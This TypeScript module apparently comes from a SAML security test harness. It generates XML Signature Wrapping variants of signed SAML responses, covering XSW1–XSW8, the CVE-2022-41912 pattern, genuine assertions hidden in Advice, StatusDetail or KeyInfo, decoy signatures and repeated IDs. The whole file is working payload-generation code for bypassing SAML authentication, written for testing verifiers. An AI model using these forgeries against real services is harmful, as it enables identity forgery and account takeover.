import { SIGNATURE } from '../scripted-idp/namespaces.ts';
import { type Attack, evil } from './attack.ts';
import {
  appendTo,
  attributeOf,
  elementText,
  insertAfter,
  insertBefore,
  removeElement,
  replaceElement,
  replaceOnce,
  splitDeclaration,
  withAttribute,
} from './xml-text.ts';

// Signature wrapping: the signed element moves to a place where only the verifier finds it, and a forged one
// takes its place. The trees are those that penetration testers number XSW1 to XSW8.

const EVIL_RESPONSE_ID = '_evil_response_ID';
const EVIL_ASSERTION_ID = '_evil_assertion_ID';

const withoutSignature = (xml: string) => removeElement(xml, 'Signature');
const evilAssertion = (assertion: string, id = EVIL_ASSERTION_ID) =>
  withAttribute(evil(assertion), 'Assertion', 'ID', id);

/** The Response's own Signature holds the genuine Response, the root is forged. */
const xsw1: Attack = (xml) => {
  const { declaration, root } = splitDeclaration(xml);
  const forged = withAttribute(evil(root), 'Response', 'ID', EVIL_RESPONSE_ID);
  return declaration + appendTo(forged, 'Signature', withoutSignature(root));
};

/** The genuine Response stands before the Signature, which it left. */
const xsw2: Attack = (xml) => {
  const { declaration, root } = splitDeclaration(xml);
  const forged = withAttribute(evil(root), 'Response', 'ID', EVIL_RESPONSE_ID);
  return declaration + insertBefore(forged, 'Signature', withoutSignature(root));
};

/** A forged Assertion without Signature stands before the genuine one. */
const xsw3: Attack = (xml) => {
  const assertion = elementText(xml, 'Assertion');
  return insertBefore(xml, 'Assertion', evilAssertion(withoutSignature(assertion)));
};

/** The forged Assertion holds the genuine one. */
const xsw4: Attack = (xml) => {
  const assertion = elementText(xml, 'Assertion');
  const forged = evilAssertion(withoutSignature(assertion));
  return replaceElement(xml, 'Assertion', appendTo(forged, 'Assertion', assertion));
};

/** The forged Assertion keeps the Signature; the genuine one, without it, ends the Response. */
const xsw5: Attack = (xml) => {
  const assertion = elementText(xml, 'Assertion');
  const forged = replaceElement(xml, 'Assertion', evilAssertion(assertion));
  return appendTo(forged, 'Response', withoutSignature(assertion));
};

/** As before, but the genuine Assertion lies inside the forged one's Signature. */
const xsw6: Attack = (xml) => {
  const assertion = elementText(xml, 'Assertion');
  const forged = appendTo(evilAssertion(assertion), 'Signature', withoutSignature(assertion));
  return replaceElement(xml, 'Assertion', forged);
};

/** Extensions before the genuine Assertion hold a forged one with the same ID. */
const forgedInExtensions =
  (startTag: string, endTag: string): Attack =>
  (xml) => {
    const assertion = elementText(xml, 'Assertion');
    const forged = evil(withoutSignature(assertion));
    return insertBefore(xml, 'Assertion', `${startTag}${forged}${endTag}`);
  };

/** The forged Assertion keeps ID and Signature, whose Object holds the genuine one. */
const genuineInObject =
  (startTag: string, endTag: string): Attack =>
  (xml) => {
    const assertion = elementText(xml, 'Assertion');
    const genuine = `${startTag}${withoutSignature(assertion)}${endTag}`;
    return replaceElement(xml, 'Assertion', appendTo(evil(assertion), 'Signature', genuine));
  };

/** The shape of CVE-2022-41912: a forged copy comes last. */
const forgedAssertionLast: Attack = (xml) => {
  const assertion = withoutSignature(elementText(xml, 'Assertion'));
  const id = `${attributeOf(xml, 'Assertion', 'ID')}_attack`;
  return appendTo(xml, 'Response', evilAssertion(assertion, id));
};

/** The genuine Assertion, and a forged one to stand in its place. */
function pair(xml: string) {
  const genuine = elementText(xml, 'Assertion');
  return { genuine, forged: evilAssertion(withoutSignature(genuine)) };
}

// The forged Assertion stands where one belongs; the genuine one hides where anything may stand.

const hiddenInAdvice: Attack = (xml) => {
  const { genuine, forged } = pair(xml);
  const advised = insertBefore(forged, 'AuthnStatement', `<saml2:Advice>${genuine}</saml2:Advice>`);
  return replaceElement(xml, 'Assertion', advised);
};

const hiddenInAttributeValue: Attack = (xml) => {
  const { genuine, forged } = pair(xml);
  return replaceElement(xml, 'Assertion', appendTo(forged, 'AttributeValue', genuine));
};

const hiddenInStatusDetail: Attack = (xml) => {
  const { genuine, forged } = pair(xml);
  const detail = `<saml2p:StatusDetail>${genuine}</saml2p:StatusDetail>`;
  return appendTo(replaceElement(xml, 'Assertion', forged), 'Status', detail);
};

const hiddenInKeyInfo: Attack = (xml) => {
  const { genuine, forged } = pair(xml);
  return appendTo(replaceElement(xml, 'Assertion', forged), 'KeyInfo', genuine);
};

/** Extensions with a Signature that repeats the genuine SignatureValue and whose Object holds a forged Assertion. */
const decoySignature: Attack = (xml) =>
  insertBefore(xml, 'Status', `<saml2p:Extensions>${decoy(xml)}</saml2p:Extensions>`);

/** The same decoy as a second Signature of the Response itself. */
const secondSignature: Attack = (xml) => insertBefore(xml, 'Status', decoy(xml));

function decoy(xml: string): string {
  const value = elementText(xml, 'SignatureValue');
  const forged = `<saml2:Assertion xmlns:saml2="urn:oasis:names:tc:SAML:2.0:assertion" ID="${EVIL_ASSERTION_ID}" Version="2.0"><saml2:Subject><saml2:NameID>mallory@evil.example</saml2:NameID></saml2:Subject></saml2:Assertion>`;
  return `<ds:Signature xmlns:ds="${SIGNATURE}">${value}<ds:Object>${forged}</ds:Object></ds:Signature>`;
}

/** Something unsigned inside the Response's own Signature, which its digest leaves out. */
const objectInSignature: Attack = (xml) => {
  const forged = evilAssertion(withoutSignature(elementText(xml, 'Assertion')));
  return appendTo(xml, 'Signature', `<ds:Object>${forged}</ds:Object>`);
};

const removeResponseSignature: Attack = (xml) => removeElement(xml, 'Signature');

/** Every ID of the assertion occurs a second time, under another name for the same thing. */
const repeatId =
  (attribute: string): Attack =>
  (xml) => {
    const id = attributeOf(xml, 'Assertion', 'ID');
    return replaceOnce(xml, '<saml2:Subject>', `<saml2:Subject ${attribute}="${id}">`);
  };

export const wrapping: Readonly<Record<string, Attack>> = {
  'xsw-1': xsw1,
  'xsw-2': xsw2,
  'xsw-3': xsw3,
  'xsw-4': xsw4,
  'xsw-5': xsw5,
  'xsw-6': xsw6,
  'xsw-7': forgedInExtensions('<Extensions>', '</Extensions>'),
  'xsw-7-in-the-right-namespace': forgedInExtensions('<saml2p:Extensions>', '</saml2p:Extensions>'),
  'xsw-8': genuineInObject('<Object>', '</Object>'),
  'xsw-8-in-the-right-namespace': genuineInObject('<ds:Object>', '</ds:Object>'),
  'forged-assertion-last': forgedAssertionLast,
  'genuine-hidden-in-advice': hiddenInAdvice,
  'genuine-hidden-in-an-attribute-value': hiddenInAttributeValue,
  'genuine-hidden-in-status-detail': hiddenInStatusDetail,
  'genuine-hidden-in-key-info': hiddenInKeyInfo,
  'decoy-signature-in-extensions': decoySignature,
  'second-signature-of-the-response': secondSignature,
  'response-signature-twice': (xml) => insertAfter(xml, 'Signature', elementText(xml, 'Signature')),
  'object-in-the-signature': objectInSignature,
  'remove-the-response-signature': removeResponseSignature,
  'repeat-the-assertion-id-as-ID': repeatId('ID'),
  'repeat-the-assertion-id-as-Id': repeatId('Id'),
  'repeat-the-assertion-id-as-id': repeatId('id'),
  'repeat-the-assertion-id-as-xml-id': repeatId('xml:id'),
};
